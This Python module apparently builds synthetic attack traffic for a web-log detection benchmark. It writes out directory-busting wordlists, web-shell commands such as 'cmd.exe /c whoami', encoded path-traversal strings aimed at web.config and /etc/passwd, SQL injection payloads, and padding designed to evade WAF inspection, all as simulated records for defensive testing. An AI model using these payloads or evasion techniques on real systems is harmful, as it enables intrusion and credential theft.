"""Attackers written by hand where no packaged tool makes the traffic: the web-shell replay
of the incident, encoded and double-encoded payloads, attack tools with browser user agents,
a forged Googlebot, and low-and-slow variants (one request every few minutes)."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta

from bench.detection.actors import Actor, Hour, Req, q

WORDLIST = [
    "admin",
    "administrator",
    "backup",
    "backups",
    "old",
    "test",
    "temp",
    "tmp",
    "upload",
    "uploads",
    "config",
    "conf",
    "db",
    "data",
    "dev",
    "staging",
    "private",
    "secret",
    "bin",
    "cgi-bin",
    "logs",
    "log",
    "install",
    "setup",
    "phpmyadmin",
    "wp-admin",
    "wp-login.php",
    ".git/HEAD",
    ".env",
    "web.config.bak",
    "elmah.axd",
    "trace.axd",
    "server-status",
    "api/swagger",
    "swagger.json",
    "console",
    "manager",
    "login.aspx",
    "portal",
    "intranet",
    "owa",
    "exchange",
    "ecp",
    "aspnet_client",
]


def _probe(a: Actor, h: Hour, paths: list[str], gap: tuple[float, float]) -> None:
    t = h.t(0, 600)
    for p in paths:
        a.reqs.append(Req(t, "GET", f"/{p}", "", 404, 0, 2))
        t += timedelta(seconds=h.rng.uniform(*gap))


def dirbust_browser_ua(h: Hour, n: int) -> Actor:
    a = Actor(
        f"atk-dirbust-browser-ua-{n}", "dirbust_browser_ua", "attack", h.public_ip(), h.browser()
    )
    _probe(a, h, list(WORDLIST), (0.05, 0.5))
    return a


def fake_googlebot(h: Hour, n: int) -> Actor:
    ua = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    a = Actor(f"atk-fake-googlebot-{n}", "fake_googlebot", "attack", h.public_ip(), ua)
    _probe(a, h, list(WORDLIST), (0.2, 2))
    return a


def slow_dirbust(h: Hour, n: int) -> Actor:
    """A wordlist walked at one request every 50-90 s: never 12 in five minutes."""
    a = Actor(f"atk-slow-dirbust-{n}", "slow_dirbust", "attack", h.public_ip(), h.browser())
    words = list(WORDLIST)
    h.rng.shuffle(words)
    t = h.start + timedelta(seconds=h.rng.uniform(0, 60))
    for p in words:
        a.reqs.append(Req(t, "GET", f"/{p}", "", 404, 0, 2))
        t += timedelta(seconds=h.rng.uniform(50, 90))
    return a


def webshell_replay(h: Hour, n: int) -> Actor:
    """The incident: an upload, then the uploaded page run with commands."""
    a = Actor(f"atk-webshell-{n}", "webshell_replay", "attack", h.public_ip(), h.browser())
    t = h.t(0, 2000)
    shell = f"/uploads/{h.rng.choice(['img', 'thumb', 'logo'])}{h.rng.randint(1, 999)}.aspx"
    a.reqs.append(Req(t, "POST", "/upload.aspx", "", 200))
    for i, cmd in enumerate(["Cmd.ExE /c whoami", "cmd.exe /c ipconfig /all", "cmd /c net user"]):
        a.reqs.append(Req(t + timedelta(seconds=30 + 20 * i), "GET", shell, q(cmd=cmd), 200))
    return a


def traversal_variants(h: Hour, n: int) -> Actor:
    r = h.rng
    variants = [
        "file=%2e%2e%2f%2e%2e%2fweb.config",
        "file=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini",
        "file=..%c0%af..%c0%afboot.ini",
        "file=..\\..\\..\\inetpub\\wwwroot\\web.config",
        "doc=....//....//....//etc/passwd",
        "path=..%255c..%255cweb.config",
        "page=%2e%2e/global.asax",
    ]
    a = Actor(f"atk-traversal-{n}", "traversal_encoded", "attack", h.public_ip(), h.browser())
    a.reqs.append(
        Req(h.t(), "GET", "/download.aspx", r.choice(variants), r.choice([200, 400, 500]))
    )
    return a


def traversal_one_level_error(h: Hour, n: int) -> Actor:
    """A single `../` the server chokes on: the error gives it away."""
    a = Actor(
        f"atk-traversal-500-{n}", "traversal_server_error", "attack", h.public_ip(), h.browser()
    )
    a.reqs.append(Req(h.t(), "GET", "/download.aspx", "file=../App_Data/site.mdf", 500))
    return a


def sqli_slow_browser(h: Hour, n: int) -> Actor:
    """Hand-made UNION probes with a browser user agent, one every four minutes."""
    a = Actor(f"atk-sqli-slow-{n}", "sqli_low_and_slow", "attack", h.public_ip(), h.browser())
    t = h.t(0, 600)
    for payload in [
        "id=1' ORDER BY 5-- -",
        "id=-1 UNION SELECT NULL,NULL,@@version--",
        "id=1 AND 1=1",
        "id=1') AND SLEEP(5) AND ('a'='a",
    ]:
        a.reqs.append(Req(t, "GET", "/product.aspx", q(id=payload[3:]), 500))
        t += timedelta(seconds=240)
    return a


def sqli_double_encoded(h: Hour, n: int) -> Actor:
    a = Actor(f"atk-sqli-2enc-{n}", "sqli_double_encoded", "attack", h.public_ip(), h.browser())
    a.reqs.append(Req(h.t(), "GET", "/product.aspx", "id=1%2527%2520OR%25201%253D1--", 200))
    return a


def cmd_double_encoded(h: Hour, n: int) -> Actor:
    a = Actor(f"atk-cmd-2enc-{n}", "cmd_double_encoded", "attack", h.public_ip(), h.browser())
    a.reqs.append(
        Req(h.t(), "GET", "/uploads/help.aspx", "c=cmd%252Eexe%2520%252Fc%2520whoami", 200)
    )
    return a


def brute_force_browser_ua(h: Hour, n: int) -> Actor:
    a = Actor(f"atk-bruteforce-{n}", "login_brute_force", "attack", h.public_ip(), h.browser())
    t = h.t(0, 2000)
    for _ in range(40):
        a.reqs.append(Req(t, "POST", h.site.login, "", 200))
        t += timedelta(seconds=h.rng.uniform(1, 6))
    return a


def tilde_enum(h: Hour, n: int) -> Actor:
    a = Actor(f"atk-tilde-{n}", "iis_tilde", "attack", h.public_ip(), h.browser())
    t = h.t()
    for c in "abcdef":
        a.reqs.append(Req(t, "GET", f"/{c}*~1*/.aspx", "", 404, 0, 2))
        t += timedelta(seconds=1)
    return a


def _padding(h: Hour, n: int) -> str:
    """Filler as evasion tools make it (letters, like a harmless parameter's value)."""
    return "".join(
        h.rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(n)
    )


def padded_webshell(h: Hour, n: int) -> Actor:
    """Web-shell commands behind a parameter padded past the 8,191-character keyword limit."""
    a = Actor(f"atk-padded-shell-{n}", "padded_webshell", "attack", h.public_ip(), h.browser())
    t = h.t(0, 3000)
    for cmd in ["cmd.exe /c whoami", "cmd.exe /c ipconfig /all"]:
        pad = _padding(h, h.rng.randint(8300, 12000))
        a.reqs.append(Req(t, "GET", "/uploads/thumb.aspx", q(v=pad, cmd=cmd), 200))
        t += timedelta(seconds=h.rng.uniform(20, 60))
    return a


def padded_sqli(h: Hour, n: int) -> Actor:
    """An SQL injection behind 5 KB of padding (past what many WAFs inspect)."""
    a = Actor(f"atk-padded-sqli-{n}", "padded_sqli", "attack", h.public_ip(), h.browser())
    pad = _padding(h, h.rng.randint(4500, 6000))
    query = q(id="1", ref=pad, q="1' UNION SELECT name,password FROM users--")
    a.reqs.append(Req(h.t(), "GET", "/product.aspx", query, 500))
    return a


ATTACKS: dict[str, tuple[Callable[[Hour, int], Actor], int]] = {
    "dirbust_browser_ua": (dirbust_browser_ua, 2),
    "fake_googlebot": (fake_googlebot, 2),
    "slow_dirbust": (slow_dirbust, 2),
    "webshell_replay": (webshell_replay, 2),
    "traversal_encoded": (traversal_variants, 6),
    "traversal_server_error": (traversal_one_level_error, 1),
    "sqli_low_and_slow": (sqli_slow_browser, 2),
    "sqli_double_encoded": (sqli_double_encoded, 1),
    "cmd_double_encoded": (cmd_double_encoded, 1),
    "login_brute_force": (brute_force_browser_ua, 2),
    "iis_tilde": (tilde_enum, 1),
    "padded_webshell": (padded_webshell, 1),
    "padded_sqli": (padded_sqli, 1),
}
